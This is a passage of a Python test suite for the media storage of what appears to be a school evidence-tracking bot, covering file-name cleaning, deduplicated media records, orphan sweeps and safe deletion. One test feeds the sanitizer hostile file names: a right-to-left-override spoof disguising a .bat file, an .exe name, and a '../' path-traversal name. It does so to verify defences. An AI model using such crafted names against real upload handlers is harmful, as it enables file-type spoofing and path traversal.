def test_an_overlong_file_name_is_cut_to_255_bytes_keeping_its_extension(letter: str):
    clean = clean_file_name(letter * 300 + ".docx", "docx")

    assert clean is not None and clean.endswith(".docx")
    assert 250 <= len(clean.encode()) <= 255
    assert set(clean.removesuffix(".docx")) == {letter}  # no half character at the cut


# --- the database side -------------------------------------------------------------------------


async def _count_media(session) -> int:
    return (await session.execute(select(func.count()).select_from(MediaFile))).scalar_one()


def _age(paths: list[Path], seconds: float) -> None:
    moment = time.time() - seconds
    for path in paths:
        os.utime(path, (moment, moment))


async def test_record_media_is_get_or_create(session, store: MediaStore):
    stored = await store.store_image(phone_jpeg())

    first = await record_media(session, stored=stored.image)
    again = await record_media(session, stored=stored.image)
    thumbnail = await record_media(session, stored=stored.thumbnail)
    await session.commit()

    assert first.id == again.id != thumbnail.id
    assert await _count_media(session) == 2
    assert (first.sha256, first.kind, first.mime_type) == (
        stored.image.sha256,
        MediaKind.IMAGE,
        "image/jpeg",
    )
    assert (first.width, first.height, first.size_bytes) == (300, 200, stored.image.size_bytes)
    assert store.path_of(first) == store.path_of(stored.image)


async def test_concurrent_records_of_one_file_end_in_one_row(session_factory, store: MediaStore):
    stored = await store.store_file(PDF, kind=MediaKind.DOCUMENT)
    async with session_factory() as first, session_factory() as second:
        row = await record_media(first, stored=stored)
        waiting = asyncio.create_task(record_media(second, stored=stored))
        await asyncio.sleep(0.2)  # the second insert now waits for the first transaction
        await first.commit()
        other = await waiting
        await second.commit()
        assert other.id == row.id
        assert await _count_media(second) == 1


async def test_the_sweep_removes_old_orphans_only(session, store: MediaStore):
    kept = await store.store_image(phone_jpeg())
    orphan = await store.store_image(encode(upright_pattern(), "PNG"))
    young = await store.store_file(PDF, kind=MediaKind.DOCUMENT)
    for file in kept.files:
        await record_media(session, stored=file)
    await session.commit()
    stale_temp = store.path_of(orphan.image).parent / ".tmp-abc123"
    stale_temp.write_bytes(b"half")
    foreign = store.root / "ab" / "cd" / "notes.txt"
    foreign.parent.mkdir(parents=True, exist_ok=True)
    foreign.write_text("not ours")
    old = [store.path_of(file) for file in (*kept.files, *orphan.files)] + [stale_temp, foreign]
    _age(old, seconds=2 * 3600)

    removed = await sweep_orphans(session, media_dir=store.root, older_than=timedelta(hours=1))

    expected = {store.path_of(file) for file in orphan.files} | {stale_temp}
    assert set(removed) == expected
    assert sorted(files_under(store.root)) == sorted(
        [store.path_of(file) for file in kept.files] + [store.path_of(young), foreign]
    )


async def test_a_new_upload_of_an_orphaned_file_protects_it_from_the_sweep(
    session, store: MediaStore
):
    source = encode(upright_pattern(), "PNG")
    orphan = await store.store_image(source)
    _age([store.path_of(file) for file in orphan.files], seconds=2 * 3600)

    again = await store.store_image(source)  # the same bytes: the files exist, get touched

    removed = await sweep_orphans(session, media_dir=store.root, older_than=timedelta(hours=1))
    assert removed == []
    assert all(store.path_of(file).exists() for file in again.files)


async def _evidence_with(session, pupil_id: int, image: MediaFile, thumbnail: MediaFile) -> int:
    evidence = Evidence(pupil_id=pupil_id, kind=EvidenceKind.PHOTO)
    session.add(evidence)
    await session.flush()
    session.add(
        EvidenceFile(
            evidence_id=evidence.id, media_file_id=image.id, thumbnail_file_id=thumbnail.id
        )
    )
    await session.flush()
    return evidence.id


async def test_deleting_evidence_removes_its_files_after_commit(
    session, session_factory, store: MediaStore
):
    school = await build_school(session_factory)
    pupil_id = school.persons["P1"]
    stored = await store.store_image(phone_jpeg())
    image = await record_media(session, stored=stored.image)
    thumbnail = await record_media(session, stored=stored.thumbnail)
    evidence_id = await _evidence_with(session, pupil_id, image, thumbnail)
    # The same picture, sent twice, shares its files.
    second_id = await _evidence_with(session, pupil_id, image, thumbnail)
    await session.commit()

    await session.execute(delete(Evidence).where(Evidence.id == evidence_id))
    for row in (image, thumbnail):
        assert not await delete_media_if_unused(session, media_file_id=row.id, media_dir=store.root)
    await session.execute(delete(Evidence).where(Evidence.id == second_id))
    for row in (image, thumbnail):
        assert await delete_media_if_unused(session, media_file_id=row.id, media_dir=store.root)
    assert all(store.path_of(file).exists() for file in stored.files)  # not committed yet

    await session.commit()

    assert files_under(store.root) == []
    assert await _count_media(session) == 0


async def test_a_rollback_keeps_row_and_file(session, store: MediaStore):
    stored = await store.store_file(PDF, kind=MediaKind.DOCUMENT)
    row = await record_media(session, stored=stored)
    await session.commit()

    assert await delete_media_if_unused(session, media_file_id=row.id, media_dir=store.root)
    await session.rollback()
    await session.commit()  # a later transaction must not act on the forgotten removal

    assert store.path_of(stored).exists()
    assert await _count_media(session) == 1


async def test_voice_and_observation_photos_count_as_use(
    session, session_factory, store: MediaStore
):
    school = await build_school(session_factory)
    voice = await record_media(
        session, stored=await store.store_file(opus_bytes(), kind=MediaKind.VOICE)
    )
    photo = await record_media(session, stored=(await store.store_image(phone_jpeg())).image)
    unused = await record_media(
        session, stored=await store.store_file(PDF, kind=MediaKind.DOCUMENT)
    )
    session.add(
        Reflection(pupil_id=school.persons["P1"], on_date=date(2026, 9, 1), voice_file_id=voice.id)
    )
    session.add(Observation(author_id=school.persons["T1"], text="mooi", photo_file_id=photo.id))
    await session.commit()

    assert not await delete_media_if_unused(session, media_file_id=voice.id, media_dir=store.root)
    assert not await delete_media_if_unused(session, media_file_id=photo.id, media_dir=store.root)
    assert await delete_media_if_unused(session, media_file_id=unused.id, media_dir=store.root)
    assert not await delete_media_if_unused(session, media_file_id=unused.id, media_dir=store.root)
    await session.commit()

    assert store.path_of(voice).exists() and store.path_of(photo).exists()
    assert not store.path_of(unused).exists()


def test_every_reference_to_media_is_known():
    names = {f"{column.table.name}.{column.name}" for column in media_references()}
    assert names >= {
        "evidence_file.media_file_id",
        "evidence_file.thumbnail_file_id",
        "reflection.voice_file_id",
        "observation.voice_file_id",
        "observation.photo_file_id",
    }


async def test_a_reference_added_meanwhile_keeps_the_file(session_factory, store: MediaStore):
    school = await build_school(session_factory)
    stored = await store.store_file(PDF, kind=MediaKind.DOCUMENT)
    async with session_factory() as setup:
        if setup.get_bind().dialect.name != "postgresql":
            pytest.skip("SQLite has one writer: the bot serialises updates, no race to lose")
        row = await record_media(setup, stored=stored)
        evidence = Evidence(pupil_id=school.persons["P1"], kind=EvidenceKind.DOCUMENT)
        setup.add(evidence)
        await setup.commit()
    async with session_factory() as deleting, session_factory() as adding:
        adding.add(EvidenceFile(evidence_id=evidence.id, media_file_id=row.id))
        await adding.flush()  # not committed: the deleting session cannot see it yet
        attempt = asyncio.create_task(
            delete_media_if_unused(deleting, media_file_id=row.id, media_dir=store.root)
        )
        await asyncio.sleep(0.3)  # the DELETE now waits on the new reference's lock
        await adding.commit()
        assert await attempt is False
        await deleting.commit()
    assert store.path_of(stored).exists()
    async with session_factory() as check:
        assert await _count_media(check) == 1


async def test_evidence_keeps_clean_file_names_that_fit_their_column(
    session, session_factory, store: MediaStore
):
    school = await build_school(session_factory)
    text = await store.store_file(b"Mijn verslag\n", kind=MediaKind.DOCUMENT)
    pdf = await store.store_file(PDF, kind=MediaKind.DOCUMENT)
    photo = await store.store_image(phone_jpeg())
    evidence = await create_evidence(
        session,
        school_id=school.school_id,
        new=NewEvidence(
            pupil_id=school.persons["P1"],
            kind=EvidenceKind.DOCUMENT,
            files=[text, pdf, photo],
            original_names=["verslag\u202etxt.bat", "ë" * 300 + ".exe", "../IMG_1.HEIC"],
        ),
    )
    await session.commit()

    names = (
        await session.scalars(
            select(EvidenceFile.original_name)
            .where(EvidenceFile.evidence_id == evidence.id)
            .order_by(EvidenceFile.position)
        )
    ).all()
    assert names[0] == "verslagtxt.txt"
    assert names[1] is not None and names[1].endswith("ë.pdf") and len(names[1].encode()) <= 255
    assert names[2] == "IMG_1.jpg"
